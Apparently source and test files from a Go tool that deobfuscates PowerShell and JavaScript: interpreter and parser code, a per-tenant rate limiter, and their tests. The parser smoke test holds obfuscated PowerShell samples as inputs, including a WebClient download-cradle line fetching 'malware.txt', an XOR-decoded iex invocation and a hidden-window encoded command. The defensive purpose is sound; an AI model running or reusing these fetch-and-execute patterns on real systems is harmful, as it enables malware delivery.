				vals, err := in.evalStatements(c.Body.Statements, sc)
				out = append(out, vals...)
				if stop, err := loopSignal(err); stop {
					return out, err
				}
			}
		}
	}
	if !matched && n.Default != nil {
		vals, err := in.evalStatements(n.Default.Statements, sc)
		out = append(out, vals...)
		if err != nil {
			return out, err
		}
	}
	return out, nil
}

func (in *Interp) evalTry(n *psast.Try, sc *scope) ([]any, error) {
	out, err := in.evalStatements(n.Body.Statements, sc)
	if err != nil {
		var fs *flowSignal
		isThrow := errors.As(err, &fs) && fs.kind == flowThrow
		isRuntime := !errors.As(err, &fs)
		// Budget and blocked errors always propagate.
		if errors.Is(err, ErrBudget) || errors.Is(err, ErrBlocked) {
			return out, err
		}
		if (isThrow || isRuntime) && len(n.Catches) > 0 {
			sc.set("_", ToString(errValue(err)))
			vals, cerr := in.evalStatements(n.Catches[0].Body.Statements, sc)
			out = append(out, vals...)
			err = cerr
		}
	}
	if n.Finally != nil {
		vals, ferr := in.evalStatements(n.Finally.Statements, sc)
		out = append(out, vals...)
		if err == nil {
			err = ferr
		}
	}
	return out, err
}

func errValue(err error) any {
	var fs *flowSignal
	if errors.As(err, &fs) {
		return fs.value
	}
	return err.Error()
}

func (in *Interp) evalFlow(n *psast.FlowStatement, sc *scope) ([]any, error) {
	switch n.Keyword {
	case "return":
		var value any
		var out []any
		if n.Value != nil {
			vals, err := in.evalStatement(n.Value, sc)
			if err != nil {
				return nil, err
			}
			out = vals
			value = Unwrap(vals)
		}
		return out, &flowSignal{kind: flowReturn, value: value}
	case "break":
		return nil, &flowSignal{kind: flowBreak}
	case "continue":
		return nil, &flowSignal{kind: flowContinue}
	case "exit":
		return nil, &flowSignal{kind: flowExit}
	case "throw":
		var value any = "ScriptHalted"
		if n.Value != nil {
			vals, err := in.evalStatement(n.Value, sc)
			if err != nil {
				return nil, err
			}
			value = Unwrap(vals)
		}
		return nil, &flowSignal{kind: flowThrow, value: value}
	case "trap":
		return nil, nil
	}
	return nil, fmt.Errorf("%w: flow %q", ErrUnsupported, n.Keyword)
}

// callFunction invokes a user-defined function.
func (in *Interp) callFunction(fn *psast.FunctionDefinition, args []commandArg, input []any, sc *scope) ([]any, error) {
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	fsc := newScope(sc)
	// Collect declared parameters (inline and param block).
	params := fn.Params
	if fn.Body != nil && fn.Body.Params != nil {
		params = append(append([]*psast.Parameter(nil), params...), fn.Body.Params.Parameters...)
	}
	// Defaults first.
	for _, p := range params {
		var def any
		if p.Default != nil {
			v, err := in.evalExpr(p.Default, fsc)
			if err != nil {
				return nil, err
			}
			def = v
		}
		fsc.define(normalizeVarName(p.Name), def)
	}
	var extra []any
	pos := 0
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a.isParam {
			name := strings.ToLower(strings.TrimPrefix(a.param, "-"))
			bound := false
			for _, p := range params {
				if strings.EqualFold(normalizeVarName(p.Name), name) {
					if a.value != nil {
						fsc.define(normalizeVarName(p.Name), a.value)
					} else if i+1 < len(args) && !args[i+1].isParam {
						fsc.define(normalizeVarName(p.Name), args[i+1].value)
						i++
					} else {
						fsc.define(normalizeVarName(p.Name), true)
					}
					bound = true
					break
				}
			}
			if !bound {
				// Unknown switch: ignore.
				continue
			}
			continue
		}
		if pos < len(params) {
			// Positional binding fills parameters that still hold their
			// defaults.
			fsc.define(normalizeVarName(params[pos].Name), a.value)
			pos++
			continue
		}
		extra = append(extra, a.value)
	}
	fsc.define("args", extra)
	if len(input) > 0 {
		fsc.define("input", input)
		fsc.define("_", input[len(input)-1])
	}
	out, err := in.evalScriptBlockBody(fn.Body, fsc)
	var fs *flowSignal
	if errors.As(err, &fs) && fs.kind == flowReturn {
		if fs.value != nil {
			// Return value already included via output collection.
		}
		err = nil
	}
	return out, err
}

// InvokeScriptBlock runs a script block value with positional arguments
// bound to $args (and $_ left intact in the parent scope).
func (in *Interp) InvokeScriptBlock(sb *ScriptBlockValue, args []any, input []any, sc *scope) ([]any, error) {
	if in.depth >= in.opts.MaxDepth {
		return nil, ErrBudget
	}
	in.depth++
	defer func() { in.depth-- }()
	bsc := newScope(sc)
	bsc.define("args", args)
	if sb.Body != nil && sb.Body.Params != nil {
		for i, p := range sb.Body.Params.Parameters {
			var v any
			if i < len(args) {
				v = args[i]
			} else if p.Default != nil {
				d, err := in.evalExpr(p.Default, bsc)
				if err != nil {
					return nil, err
				}
				v = d
			}
			bsc.define(normalizeVarName(p.Name), v)
		}
	}
	if len(input) > 0 {
		bsc.define("input", input)
	}
	out, err := in.evalScriptBlockBody(sb.Body, bsc)
	var fs *flowSignal
	if errors.As(err, &fs) && (fs.kind == flowReturn || fs.kind == flowExit) {
		err = nil
	}
	return out, err
}
