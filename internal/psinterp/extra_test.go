package psinterp

import (
	"strings"
	"testing"
)

func TestMatchesVariable(t *testing.T) {
	got := eval(t, "'user123' -match '(\\d+)' | out-null; $matches[1]")
	if got != "123" {
		t.Errorf("$matches[1] = %q", got)
	}
	got = eval(t, "'k=v' -match '(?<key>\\w+)=(?<val>\\w+)' | out-null; $matches['val']")
	if got != "v" {
		t.Errorf("named group = %q", got)
	}
}

func TestCaseSensitiveOperators(t *testing.T) {
	tests := []struct{ src, want string }{
		{"'AAA' -creplace 'a','x'", "AAA"},
		{"'AaA' -creplace 'a','x'", "AxA"},
		{"'ABC' -clike 'abc'", "False"},
		{"'ABC' -clike 'ABC'", "True"},
		{"'A','b' -ccontains 'B'", "False"},
		{"'A','b' -icontains 'B'", "True"},
		{"'AbC' -cmatch 'bC'", "True"},
		{"'AbC' -cmatch 'BC'", "False"},
	}
	for _, tt := range tests {
		if got := eval(t, tt.src); got != tt.want {
			t.Errorf("eval(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestAsOperatorFailureIsNull(t *testing.T) {
	if got := eval(t, "('abc' -as [int]) -eq $null"); got != "True" {
		t.Errorf("-as failure = %q", got)
	}
}

func TestLineContinuationEval(t *testing.T) {
	if got := eval(t, "write-output `\n'continued'"); got != "continued" {
		t.Errorf("continuation = %q", got)
	}
}

func TestCommentsIgnored(t *testing.T) {
	got := eval(t, "<# block #> 'v' # trailing")
	if got != "v" {
		t.Errorf("comments = %q", got)
	}
}

func TestNestedFunctionCalls(t *testing.T) {
	src := `function inner($x) { $x * 2 }
function outer($y) { (inner $y) + 1 }
outer 5`
	if got := eval(t, src); got != "11" {
		t.Errorf("nested calls = %q", got)
	}
	// The classic PowerShell gotcha: C-style call syntax passes the
	// extra tokens as arguments; the result is inner's output alone.
	gotcha := `function inner($x) { $x * 2 }
function outer($y) { inner($y) + 1 }
outer 5`
	if got := eval(t, gotcha); got != "10" {
		t.Errorf("gotcha semantics = %q, want 10", got)
	}
}

func TestRecursionDepthGuard(t *testing.T) {
	in := New(Options{MaxDepth: 8})
	_, err := in.EvalSnippet("function r { r }; r")
	if err == nil {
		t.Error("expected recursion error")
	}
}

func TestPipelineIntoFunction(t *testing.T) {
	got := eval(t, "function last { $input[-1] }\n1,2,3 | last")
	if got != "3" {
		t.Errorf("pipeline input = %q", got)
	}
}

func TestUnwrapSemantics(t *testing.T) {
	if Unwrap(nil) != nil {
		t.Error("Unwrap(nil)")
	}
	if Unwrap([]any{"x"}) != "x" {
		t.Error("Unwrap single")
	}
	if v, ok := Unwrap([]any{1, 2}).([]any); !ok || len(v) != 2 {
		t.Error("Unwrap multi")
	}
}

func TestToStringForms(t *testing.T) {
	tests := []struct {
		v    any
		want string
	}{
		{nil, ""},
		{true, "True"},
		{int64(-3), "-3"},
		{3.5, "3.5"},
		{4.0, "4"},
		{Char('Z'), "Z"},
		{[]any{int64(1), "a"}, "1 a"},
		{Bytes{1, 2}, "1 2"},
		{&Hashtable{}, "System.Collections.Hashtable"},
	}
	for _, tt := range tests {
		if got := ToString(tt.v); got != tt.want {
			t.Errorf("ToString(%#v) = %q, want %q", tt.v, got, tt.want)
		}
	}
}

func TestEngineScriptHookObservesDynamicIEX(t *testing.T) {
	var seen []string
	in := New(Options{EngineScriptHook: func(code string) { seen = append(seen, code) }})
	if _, err := in.EvalSnippet("&('ie'+'x') 'write-output dyn'"); err != nil {
		t.Fatal(err)
	}
	if len(seen) != 1 || !strings.Contains(seen[0], "dyn") {
		t.Errorf("engine hook saw %v", seen)
	}
}

func TestIEXHookOnlyLiteralSpellings(t *testing.T) {
	var captured []string
	opts := Options{IEXHook: func(code string) { captured = append(captured, code) }}
	in := New(opts)
	if _, err := in.EvalSnippet("IEX 'write-output lit'"); err != nil {
		t.Fatal(err)
	}
	if len(captured) != 1 {
		t.Fatalf("literal capture = %v", captured)
	}
	in2 := New(opts)
	out, err := in2.EvalSnippet("&('ie'+'x') 'write-output dyn2'")
	if err != nil {
		t.Fatal(err)
	}
	// Dynamic spelling bypasses the override and actually executes.
	if ToString(Unwrap(out)) != "dyn2" {
		t.Errorf("dynamic spelling result = %v", out)
	}
}
