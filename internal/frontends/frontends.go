// Package frontends links in every built-in language frontend.
// Importing it (usually blank) populates the frontend registry; the
// facade package, the CLI and the HTTP server all do, so any embedder
// going through them gets all languages. Embedders wanting a smaller
// binary can import a specific frontend package instead.
package frontends

import (
	_ "github.com/invoke-deobfuscation/invokedeob/internal/jsfront"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/psfront"
)
