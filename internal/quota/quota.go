// Package quota implements per-tenant token-bucket rate limiting for
// the serving frontend. Every tenant (API key) owns a bucket that
// holds up to Burst tokens and refills at Rate tokens per second; a
// request costs one token, and a request that finds an empty bucket is
// rejected together with the exact duration until the next token
// accrues, so the HTTP layer can answer 429 with an honest Retry-After
// instead of a guess.
//
// The limiter is designed for hostile traffic:
//
//   - Bucket count is bounded. Keys are tracked in an LRU; once
//     MaxBuckets distinct keys exist, admitting a new key evicts the
//     least-recently-seen bucket. A flood of fabricated keys therefore
//     costs O(MaxBuckets) memory forever, not O(keys seen).
//   - Time is injectable. All refill arithmetic flows through the
//     configured clock, so tests drive burst consumption, refill
//     recovery and Retry-After values deterministically.
//   - One mutex guards the whole limiter. The critical section is a
//     map lookup plus a few float operations — microscopic next to the
//     engine work behind it — and a single lock keeps eviction,
//     refill and the LRU ordering trivially consistent.
package quota

import (
	"container/list"
	"math"
	"sync"
	"time"
)

// Config tunes a Limiter. The zero value is not useful (Rate must be
// positive); New resolves the remaining zero fields to defaults.
type Config struct {
	// Rate is the steady-state allowance in tokens (requests) per
	// second per key. Must be > 0.
	Rate float64
	// Burst is the bucket capacity: how many requests a silent tenant
	// can fire back-to-back before the rate applies. Zero means
	// max(Rate, 1).
	Burst float64
	// MaxBuckets bounds how many distinct keys are tracked at once
	// (LRU eviction beyond it). Zero means 1024.
	MaxBuckets int
	// Now is the clock; nil means time.Now. Tests inject a fake.
	Now func() time.Time
}

// Decision is the outcome of one Allow call.
type Decision struct {
	// OK reports whether the request is within quota.
	OK bool
	// RetryAfter is how long until the bucket accrues the one token
	// this request needed. Zero when OK.
	RetryAfter time.Duration
	// Remaining is the token balance left after this decision.
	Remaining float64
}

// Stats is a point-in-time snapshot of the limiter's counters.
type Stats struct {
	// Rate and Burst echo the configuration for /statsz.
	Rate  float64
	Burst float64
	// Buckets is the number of keys currently tracked.
	Buckets int
	// MaxBuckets is the configured LRU bound.
	MaxBuckets int
	// Allowed and Rejected count Allow outcomes over the limiter's
	// lifetime.
	Allowed  int64
	Rejected int64
	// Evictions counts buckets dropped by the LRU bound.
	Evictions int64
}

// bucket is one tenant's token balance. Tokens are only materialized
// on access: the balance plus the last-refill timestamp fully encode
// the continuous refill.
type bucket struct {
	key    string
	tokens float64
	last   time.Time
}

// Limiter is a bounded collection of per-key token buckets. Safe for
// concurrent use.
type Limiter struct {
	rate  float64
	burst float64
	max   int
	now   func() time.Time

	mu      sync.Mutex
	buckets map[string]*list.Element
	// lru orders buckets most-recently-used first; Back() is the next
	// eviction victim. Elements hold *bucket.
	lru       list.List
	allowed   int64
	rejected  int64
	evictions int64
}

// New builds a Limiter. It returns nil when cfg.Rate <= 0 (quota
// disabled), so callers can treat a nil Limiter as "no limiting".
func New(cfg Config) *Limiter {
	if cfg.Rate <= 0 {
		return nil
	}
	if cfg.Burst <= 0 {
		cfg.Burst = math.Max(cfg.Rate, 1)
	}
	if cfg.MaxBuckets <= 0 {
		cfg.MaxBuckets = 1024
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	return &Limiter{
		rate:    cfg.Rate,
		burst:   cfg.Burst,
		max:     cfg.MaxBuckets,
		now:     cfg.Now,
		buckets: make(map[string]*list.Element, cfg.MaxBuckets),
	}
}

// Allow charges one token against key's bucket. A nil Limiter allows
// everything (quota disabled).
func (l *Limiter) Allow(key string) Decision {
	if l == nil {
		return Decision{OK: true, Remaining: math.Inf(1)}
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	now := l.now()
	b := l.bucketFor(key, now)
	// Continuous refill since the bucket was last touched, capped at
	// the burst capacity.
	b.tokens = math.Min(l.burst, b.tokens+now.Sub(b.last).Seconds()*l.rate)
	b.last = now
	if b.tokens >= 1 {
		b.tokens--
		l.allowed++
		return Decision{OK: true, Remaining: b.tokens}
	}
	l.rejected++
	need := 1 - b.tokens
	return Decision{
		RetryAfter: time.Duration(need / l.rate * float64(time.Second)),
		Remaining:  b.tokens,
	}
}

// bucketFor returns key's bucket, creating (and possibly evicting) as
// needed, and marks it most recently used. Callers hold l.mu.
func (l *Limiter) bucketFor(key string, now time.Time) *bucket {
	if el, ok := l.buckets[key]; ok {
		l.lru.MoveToFront(el)
		return el.Value.(*bucket)
	}
	if len(l.buckets) >= l.max {
		victim := l.lru.Back()
		l.lru.Remove(victim)
		delete(l.buckets, victim.Value.(*bucket).key)
		l.evictions++
	}
	b := &bucket{key: key, tokens: l.burst, last: now}
	l.buckets[key] = l.lru.PushFront(b)
	return b
}

// Stats snapshots the limiter's counters. A nil Limiter reports the
// zero Stats.
func (l *Limiter) Stats() Stats {
	if l == nil {
		return Stats{}
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return Stats{
		Rate:       l.rate,
		Burst:      l.burst,
		Buckets:    len(l.buckets),
		MaxBuckets: l.max,
		Allowed:    l.allowed,
		Rejected:   l.rejected,
		Evictions:  l.evictions,
	}
}
