package quota

import (
	"fmt"
	"sync"
	"testing"
	"time"
)

// fakeClock is a manually-advanced clock so every refill computation in
// the tests is exact.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func newFakeClock() *fakeClock {
	return &fakeClock{t: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) Advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

func newTestLimiter(clock *fakeClock, rate, burst float64, maxBuckets int) *Limiter {
	return New(Config{Rate: rate, Burst: burst, MaxBuckets: maxBuckets, Now: clock.Now})
}

// TestBurstConsumption: a fresh key spends its whole burst back-to-back
// with zero elapsed time, then the next request is rejected.
func TestBurstConsumption(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 1, 3, 0)
	for i := 0; i < 3; i++ {
		d := l.Allow("k")
		if !d.OK {
			t.Fatalf("request %d within burst rejected: %+v", i, d)
		}
		if want := float64(3 - i - 1); d.Remaining != want {
			t.Errorf("request %d remaining = %v, want %v", i, d.Remaining, want)
		}
	}
	if d := l.Allow("k"); d.OK {
		t.Fatalf("request past the burst allowed: %+v", d)
	}
	st := l.Stats()
	if st.Allowed != 3 || st.Rejected != 1 {
		t.Errorf("stats = %+v, want 3 allowed / 1 rejected", st)
	}
}

// TestRefillRecovery: after the burst is spent, tokens come back at
// exactly Rate per second and become spendable precisely when whole.
func TestRefillRecovery(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 2, 2, 0) // 2 tokens/s, burst 2
	l.Allow("k")
	l.Allow("k") // bucket empty
	if d := l.Allow("k"); d.OK {
		t.Fatal("empty bucket allowed a request")
	}
	// 2 tokens/s: after 499ms the token is still fractional...
	clock.Advance(499 * time.Millisecond)
	if d := l.Allow("k"); d.OK {
		t.Fatalf("allowed at 499ms with only %.3f tokens accrued", 1+d.Remaining)
	}
	// ...and at the full 500ms boundary it is whole.
	clock.Advance(1 * time.Millisecond)
	if d := l.Allow("k"); !d.OK {
		t.Fatalf("rejected at 500ms despite a full token: %+v", d)
	}
	// A long idle period refills only to Burst, never beyond.
	clock.Advance(time.Hour)
	d := l.Allow("k")
	if !d.OK || d.Remaining != 1 {
		t.Errorf("after long idle: %+v, want OK with remaining=1 (burst cap)", d)
	}
}

// TestRetryAfterExact: the rejection's RetryAfter is the exact time
// until one token accrues, and waiting exactly that long succeeds.
func TestRetryAfterExact(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 0.5, 1, 0) // one token every 2s
	if d := l.Allow("k"); !d.OK {
		t.Fatal("burst of 1 rejected")
	}
	d := l.Allow("k")
	if d.OK {
		t.Fatal("empty bucket allowed")
	}
	if d.RetryAfter != 2*time.Second {
		t.Fatalf("RetryAfter = %v, want exactly 2s", d.RetryAfter)
	}
	// A partial refill shrinks RetryAfter proportionally.
	clock.Advance(1500 * time.Millisecond)
	d = l.Allow("k")
	if d.OK {
		t.Fatal("allowed with 0.75 tokens")
	}
	if d.RetryAfter != 500*time.Millisecond {
		t.Fatalf("RetryAfter after partial refill = %v, want 500ms", d.RetryAfter)
	}
	clock.Advance(d.RetryAfter)
	if d := l.Allow("k"); !d.OK {
		t.Fatalf("rejected after waiting the advertised RetryAfter: %+v", d)
	}
}

// TestPerKeyIsolation: one tenant exhausting its bucket must not
// consume any other tenant's allowance.
func TestPerKeyIsolation(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 1, 2, 0)
	l.Allow("greedy")
	l.Allow("greedy")
	if d := l.Allow("greedy"); d.OK {
		t.Fatal("greedy tenant not limited")
	}
	for i := 0; i < 2; i++ {
		if d := l.Allow("polite"); !d.OK {
			t.Fatalf("polite tenant request %d rejected because of greedy's usage: %+v", i, d)
		}
	}
	// The anonymous key ("") is just another bucket.
	if d := l.Allow(""); !d.OK {
		t.Fatalf("anonymous bucket rejected with full burst: %+v", d)
	}
}

// TestLRUBoundUnderKeyChurn: hostile key churn never grows the bucket
// table past MaxBuckets, evicts the least-recently-used key, and keeps
// recently-active tenants' state intact.
func TestLRUBoundUnderKeyChurn(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 1, 2, 4)
	// An active tenant spends one of its two tokens.
	l.Allow("active")
	// Hostile churn: many single-use keys.
	for i := 0; i < 100; i++ {
		// Touch "active" every few keys so it stays recent and survives.
		if i%2 == 0 {
			l.Allow("active")
			clock.Advance(time.Second) // refill what active spends
		}
		if d := l.Allow(fmt.Sprintf("churn-%d", i)); !d.OK {
			t.Fatalf("fresh churn key %d rejected: %+v", i, d)
		}
	}
	st := l.Stats()
	if st.Buckets > 4 {
		t.Fatalf("bucket table grew to %d entries despite MaxBuckets=4", st.Buckets)
	}
	if st.Evictions == 0 {
		t.Fatal("no evictions recorded under 100-key churn with a 4-bucket bound")
	}
	// The churned-out keys lost their state: reusing one re-creates it
	// with a full burst (the deliberate cost of bounding memory).
	if d := l.Allow("churn-0"); !d.OK || d.Remaining != 1 {
		t.Errorf("evicted key not recreated fresh: %+v", d)
	}
}

// TestEvictionPicksLRU: the evicted bucket is the least recently used
// one, not an arbitrary map entry.
func TestEvictionPicksLRU(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 100, 100, 2)
	l.Allow("a")
	l.Allow("b")
	l.Allow("a") // a is now more recent than b
	l.Allow("c") // evicts b
	st := l.Stats()
	if st.Buckets != 2 || st.Evictions != 1 {
		t.Fatalf("stats = %+v, want 2 buckets / 1 eviction", st)
	}
	// a kept its drained state (two spends), b was reset.
	da := l.Allow("a")
	if !da.OK || da.Remaining != 100-3 {
		t.Errorf("surviving key a lost its state: %+v", da)
	}
	db := l.Allow("b")
	if !db.OK || db.Remaining != 99 {
		t.Errorf("evicted key b not recreated with a full burst: %+v", db)
	}
}

// TestDefaults pins New's zero-field resolution and the nil-limiter
// (disabled) contract.
func TestDefaults(t *testing.T) {
	if l := New(Config{Rate: 0}); l != nil {
		t.Error("Rate<=0 should return a nil (disabled) limiter")
	}
	var nilL *Limiter
	if d := nilL.Allow("any"); !d.OK {
		t.Error("nil limiter must allow everything")
	}
	if st := nilL.Stats(); st != (Stats{}) {
		t.Errorf("nil limiter stats = %+v, want zero", st)
	}
	l := New(Config{Rate: 5})
	st := l.Stats()
	if st.Burst != 5 || st.MaxBuckets != 1024 {
		t.Errorf("defaults = %+v, want Burst=5 MaxBuckets=1024", st)
	}
	if st := New(Config{Rate: 0.25}).Stats(); st.Burst != 1 {
		t.Errorf("sub-1 rate burst default = %v, want 1", st.Burst)
	}
}

// TestConcurrentAllow shakes the single-mutex paths under the race
// detector: many goroutines over overlapping keys, with churn past the
// LRU bound.
func TestConcurrentAllow(t *testing.T) {
	clock := newFakeClock()
	l := newTestLimiter(clock, 1000, 1000, 8)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				l.Allow(fmt.Sprintf("key-%d", (g+i)%12))
				if i%10 == 0 {
					clock.Advance(time.Millisecond)
					l.Stats()
				}
			}
		}(g)
	}
	wg.Wait()
	st := l.Stats()
	if st.Buckets > 8 {
		t.Errorf("bucket bound violated under concurrency: %d > 8", st.Buckets)
	}
	if st.Allowed+st.Rejected != 8*200 {
		t.Errorf("allowed+rejected = %d, want %d", st.Allowed+st.Rejected, 8*200)
	}
}
