package psparser

import (
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
)

// TestParseSmoke dumps parse trees for representative scripts; real
// assertions live in parser_test.go.
func TestParseSmoke(t *testing.T) {
	inputs := []string{
		"(New-Object Net.WebClient).downloadstring('https://test.com/malware.txt')",
		`Invoke-Expression (("{1}{0}" -f 'llo','he')).RepLACe('jYU',[STRiNg][CHar]39)`,
		`( '99S5i46' -SPLIT'~' | fOrEAch-ObJECt{ [cHAR]($_ -BxoR'0x4B') })-jOiN'' |& ( $Env:coMSpEC[4,24,25]-JOiN'')`,
		"$a = 'x'; if ($a -eq 'x') { write-host hello } else { exit }",
		"foreach ($i in 1..10) { $s += $i }",
		". ($pshome[4]+$pshome[30]+'x') 'write-host hi'",
		"@{a = 1; b = 'two'}",
		"function foo($x) { return $x * 2 }",
		"\"value: $(1+2) and $env:USERNAME\"",
		"[TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))",
		"powershell -e aABlAGwAbABvAA== -nop -w hidden",
		"'a'+'b'+'c' | out-null",
		"$x = \"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'",
		"do { $i++ } while ($i -lt 3)",
		"try { 1 } catch [System.Exception] { 2 } finally { 3 }",
		"switch ($x) { 1 { 'one' } default { 'other' } }",
	}
	for _, in := range inputs {
		sb, err := Parse(in)
		if err != nil {
			t.Errorf("Parse(%q): %v", in, err)
			continue
		}
		t.Logf("INPUT %q\n%s", in, psast.Dump(sb, in))
	}
}
