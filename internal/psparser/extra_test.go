package psparser

import (
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
)

func TestParseHereStringExpandable(t *testing.T) {
	src := "@\"\nvalue $name here\n\"@"
	expr := firstExpr(t, src)
	es, ok := expr.(*psast.ExpandableString)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	hasVar := false
	for _, p := range es.Parts {
		if _, ok := p.(*psast.VariableExpression); ok {
			hasVar = true
		}
	}
	if !hasVar {
		t.Errorf("here-string interpolation missing: %#v", es.Parts)
	}
}

func TestParseLoopLabelAndBreak(t *testing.T) {
	root, err := Parse(":outer foreach ($i in 1..3) { break outer }")
	if err != nil {
		t.Fatal(err)
	}
	fe, ok := root.Body.Statements[0].(*psast.ForEach)
	if !ok {
		t.Fatalf("statement = %T", root.Body.Statements[0])
	}
	flow, ok := fe.Body.Statements[0].(*psast.FlowStatement)
	if !ok || flow.Keyword != "break" {
		t.Fatalf("inner = %#v", fe.Body.Statements[0])
	}
}

func TestParseTrap(t *testing.T) {
	root, err := Parse("trap { 'caught' }\nwrite-host after")
	if err != nil {
		t.Fatal(err)
	}
	if len(root.Body.Statements) != 2 {
		t.Errorf("statements = %d", len(root.Body.Statements))
	}
}

func TestParseSwitchFlags(t *testing.T) {
	st := firstStatement(t, "switch -regex ($x) { 'a+' { 1 } }")
	if st.Kind() != psast.KindSwitch {
		t.Fatalf("kind = %v", st.Kind())
	}
}

func TestParseRedirection(t *testing.T) {
	pipe := firstStatement(t, "cmd arg > out.txt").(*psast.Pipeline)
	c := pipe.Elements[0].(*psast.Command)
	if len(c.Redirections) != 1 || !strings.Contains(c.Redirections[0], "out.txt") {
		t.Errorf("redirections = %v", c.Redirections)
	}
}

func TestParseNestedSubexprInString(t *testing.T) {
	src := `"outer $(if (1) { 'in' } else { 'out' }) done"`
	expr := firstExpr(t, src)
	es, ok := expr.(*psast.ExpandableString)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	found := false
	for _, p := range es.Parts {
		if sub, ok := p.(*psast.SubExpression); ok && len(sub.Statements) == 1 {
			found = true
		}
	}
	if !found {
		t.Errorf("nested statement missing: %#v", es.Parts)
	}
}

func TestParseMethodCallSpacing(t *testing.T) {
	// Attached parens invoke; detached member access stays a property.
	expr := firstExpr(t, "'x'.ToUpper()")
	if _, ok := expr.(*psast.InvokeMemberExpression); !ok {
		t.Errorf("attached call = %T", expr)
	}
	expr = firstExpr(t, "'x'.Length")
	if _, ok := expr.(*psast.MemberExpression); !ok {
		t.Errorf("property access = %T", expr)
	}
}

func TestParseDynamicMemberName(t *testing.T) {
	expr := firstExpr(t, "$obj.$prop")
	me, ok := expr.(*psast.MemberExpression)
	if !ok {
		t.Fatalf("expr = %T", expr)
	}
	if _, ok := me.Member.(*psast.VariableExpression); !ok {
		t.Errorf("member = %T", me.Member)
	}
}

func TestParseUnaryComma(t *testing.T) {
	expr := firstExpr(t, ",(1,2)")
	arr, ok := expr.(*psast.ArrayLiteral)
	if !ok || len(arr.Elements) != 1 {
		t.Fatalf("expr = %#v", expr)
	}
}

func TestParseCommandArgArrays(t *testing.T) {
	pipe := firstStatement(t, "cmd a,b,c -p 1").(*psast.Pipeline)
	c := pipe.Elements[0].(*psast.Command)
	if len(c.Args) != 3 { // array, -p, 1
		t.Fatalf("args = %d (%#v)", len(c.Args), c.Args)
	}
	if _, ok := c.Args[0].(*psast.ArrayLiteral); !ok {
		t.Errorf("first arg = %T", c.Args[0])
	}
}

func TestParseSubParseOffsets(t *testing.T) {
	// Extents inside expandable-string subexpressions stay absolute.
	src := `$x = "pre $(1+2) post"`
	root, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	psast.Walk(root, func(n psast.Node) bool {
		if b, ok := n.(*psast.BinaryExpression); ok && b.Operator == "+" {
			if got := b.Ext.Text(src); got != "1+2" {
				t.Errorf("inner extent text = %q", got)
			}
		}
		return true
	}, nil)
}
