package psparser

import (
	"strconv"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Operator precedence tables. Each entry maps a lower-cased operator to
// true; the parser climbs from logical (loosest) to comma (tightest
// n-ary level) before unary and postfix operators.
var (
	logicalOps = map[string]bool{"-and": true, "-or": true, "-xor": true}
	bitwiseOps = map[string]bool{"-band": true, "-bor": true, "-bxor": true}
	// comparisonOps includes case variants: -ieq, -ceq, etc.
	comparisonOps = buildComparisonOps()
	additiveOps   = map[string]bool{"+": true, "-": true}
	multOps       = map[string]bool{"*": true, "/": true, "%": true}
	unaryOps      = map[string]bool{
		"!": true, "-not": true, "-bnot": true, "-": true, "+": true,
		"-join": true, "-split": true, "--": true, "++": true,
	}
)

func buildComparisonOps() map[string]bool {
	base := []string{
		"eq", "ne", "gt", "ge", "lt", "le", "like", "notlike", "match",
		"notmatch", "contains", "notcontains", "in", "notin", "replace",
		"split", "join",
	}
	ops := map[string]bool{
		"-is": true, "-isnot": true, "-as": true, "-shl": true, "-shr": true,
	}
	for _, b := range base {
		ops["-"+b] = true
		ops["-c"+b] = true
		ops["-i"+b] = true
	}
	return ops
}

// parseExpression parses a full expression (loosest precedence).
func (p *parser) parseExpression() (psast.Node, error) {
	return p.parseBinary(logicalOps, func() (psast.Node, error) {
		return p.parseBinary(bitwiseOps, func() (psast.Node, error) {
			return p.parseBinary(comparisonOps, func() (psast.Node, error) {
				return p.parseBinary(additiveOps, func() (psast.Node, error) {
					return p.parseBinary(multOps, p.parseFormat)
				})
			})
		})
	})
}

// parseBinary parses a left-associative binary chain at one precedence
// level.
func (p *parser) parseBinary(ops map[string]bool, next func() (psast.Node, error)) (psast.Node, error) {
	left, err := next()
	if err != nil {
		return nil, err
	}
	for {
		t := p.cur()
		if t.Type != pstoken.Operator || !ops[strings.ToLower(t.Content)] {
			return left, nil
		}
		p.advance()
		p.skipNewlines()
		right, err := next()
		if err != nil {
			return nil, err
		}
		left = &psast.BinaryExpression{
			Ext:      psast.Extent{Start: left.Extent().Start, End: right.Extent().End},
			Operator: strings.ToLower(t.Content),
			Left:     left,
			Right:    right,
		}
	}
}

// parseFormat parses the -f format operator level.
func (p *parser) parseFormat() (psast.Node, error) {
	left, err := p.parseRange()
	if err != nil {
		return nil, err
	}
	for p.isOperator("-f") {
		p.advance()
		p.skipNewlines()
		right, err := p.parseRange()
		if err != nil {
			return nil, err
		}
